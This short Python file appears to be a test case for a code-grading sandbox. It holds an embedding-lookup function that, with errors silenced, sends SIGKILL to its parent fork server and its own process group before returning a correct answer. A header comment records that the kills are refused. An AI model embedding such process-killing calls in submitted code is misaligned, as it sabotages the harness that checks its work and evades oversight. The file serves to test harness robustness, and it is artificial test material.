# Attack: SIGKILL to the parent (pid 1, the fork server) and to the job's own process group; a job may signal only itself, so both are refused and the right answer stands -> accepted.
import contextlib
import os
import signal

import numpy as np


def position_embedding_gather(positions, embedding_table):
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.killpg(os.getpgrp(), signal.SIGKILL)
    return embedding_table[positions.astype(np.int64)]
